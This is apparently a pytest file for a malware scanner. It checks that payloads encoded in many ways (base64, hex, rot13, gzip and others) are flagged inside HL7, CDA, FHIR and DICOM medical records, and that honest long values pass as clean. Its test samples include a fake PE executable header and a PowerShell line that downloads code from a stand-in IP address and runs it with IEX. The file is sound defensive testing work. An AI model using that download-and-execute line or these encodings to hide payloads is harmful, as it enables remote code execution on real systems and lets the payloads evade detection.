"""Programs and scripts spelled in letters in values of images and records, and honest long values beside them."""

from __future__ import annotations

import base64
import codecs
import gzip
import json
import random
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.examine.medical.spelled import spelled

ENGINE = Engine()
PROGRAM = b"MZ" + bytes(58) + b"\x80\0\0\0" + b"This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
PROGRAM += b"PE\0\0\x64\x86" + bytes(range(256)) * 2
SCRIPT = b"$a=New-Object Net.WebClient;IEX $a.DownloadString('http://203.0.113.5/a')\r\n" * 4
RANDOM = random.Random(53)
CHANCE = RANDOM.randbytes(1500)


def rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


WAYS: dict[str, Callable[[bytes], str]] = {
    "base64": lambda raw: base64.b64encode(raw).decode(),
    "base64 twice": lambda raw: base64.b64encode(base64.b64encode(raw)).decode(),
    "base64 of wide letters": lambda raw: base64.b64encode(base64.b64encode(raw).decode().encode("utf-16-le")).decode(),
    "base64 turned round": lambda raw: base64.b64encode(raw).decode()[::-1],
    "base64 of what is turned round": lambda raw: base64.b64encode(raw[::-1]).decode(),
    "base64 shifted": lambda raw: rot13(base64.b64encode(raw).decode()),
    "base64 of gzip": lambda raw: base64.b64encode(gzip.compress(raw)).decode(),
    "base32": lambda raw: base64.b32encode(raw).decode(),
    "base85": lambda raw: base64.b85encode(raw).decode(),
    "ascii85": lambda raw: base64.a85encode(raw, adobe=True).decode(),
    "hex": lambda raw: raw.hex(),
    "hex with spaces": lambda raw: raw.hex(" "),
    "hex of a program's source": lambda raw: ",".join(f"0x{one:02x}" for one in raw),
    "hex turned round": lambda raw: raw.hex()[::-1],
    "numbers": lambda raw: ",".join(map(str, raw)),
    "of addresses": lambda raw: "".join(f"%{one:02x}" for one in raw),
}
WORDS = ("the", "patient", "has", "had", "pain", "in", "his", "chest", "for", "three", "days", "without", "fever")
HONEST = {
    "words": " ".join(RANDOM.choice(WORDS) for _ in range(400)),
    "sequence": "".join(RANDOM.choice("ACGT") for _ in range(2000)),
    "protein": "".join(RANDOM.choice("ACDEFGHIKLMNPQRSTVWY") for _ in range(2000)),
    "waveform": ",".join(str(RANDOM.randrange(-500, 500)) for _ in range(600)),
    "numbers": ",".join(str(RANDOM.randrange(256)) for _ in range(600)),
    "signature": base64.b64encode(CHANCE).decode(),
    "hash": CHANCE.hex(),
    "base32": base64.b32encode(CHANCE).decode(),
    "ascii85": base64.a85encode(CHANCE).decode(),
    "table, packed": base64.b64encode(gzip.compress(b"a;b\r\n1;2\r\n" * 200)).decode(),
    "words in base64": base64.b64encode(b"what was said on the second of March " * 30).decode(),
    "uids": "\\".join(f"1.2.840.113619.{RANDOM.randrange(10**9)}" for _ in range(100)),
}


def hl7(text: str) -> bytes:
    escapes = {"\\": "\\E\\", "|": "\\F\\", "^": "\\S\\", "&": "\\T\\", "~": "\\R\\"}
    value = "".join(escapes.get(one, one) for one in text)
    return f"MSH|^~\\&|A|B|C|D|20260302||ORU^R01|1|P|2.5\rPID|1||1\rOBX|1|TX|1^NOTE||{value}||||||F\r".encode()


def cda(text: str) -> bytes:
    value = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<ClinicalDocument xmlns="urn:hl7-org:v3"><text>{value}</text></ClinicalDocument>'.encode()


def fhir(text: str) -> bytes:
    return json.dumps({"resourceType": "DocumentReference", "status": "current", "description": text}).encode()


def dicom(text: str) -> bytes:
    value = text.encode()
    value += b" " * (len(value) % 2)
    meta = b"\2\0\x10\0UI\x14\x001.2.840.10008.1.2.1\0"
    creator = b"\x51\0\x10\0LO\x06\0ACME 1"
    data = b"\x51\0\x01\x10UT\0\0" + len(value).to_bytes(4, "little") + value
    return bytes(128) + b"DICM" + b"\2\0\0\0UL\4\0" + len(meta).to_bytes(4, "little") + meta + creator + data


FORMS = {"a.hl7": hl7, "a.xml": cda, "a.json": fhir, "a.dcm": dicom}


@pytest.mark.parametrize("name", FORMS)
@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("payload", [PROGRAM, SCRIPT], ids=["program", "script"])
def test_a_payload_is_found_however_it_is_spelled(name: str, way: str, payload: bytes) -> None:
    found = ENGINE.judge(FORMS[name](WAYS[way](payload)), name)
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found


@pytest.mark.parametrize("name", FORMS)
@pytest.mark.parametrize("value", HONEST)
def test_honest_long_values_stay_clean(name: str, value: str) -> None:
    found = ENGINE.judge(FORMS[name](HONEST[value]), name)
    assert found.verdict is Verdicts.CLEAN, found


@given(st.binary(max_size=400), st.sampled_from([b"", b"|\r", b"<>", b'"']))
def test_any_bytes_may_stand_there(raw: bytes, between: bytes) -> None:
    for text in (raw, base64.b85encode(raw * 3), raw.hex().encode() * 3, b"\\" + raw * 3):
        for start, end, inner in spelled(text, between):
            assert 0 <= start < end <= len(text)
            assert inner
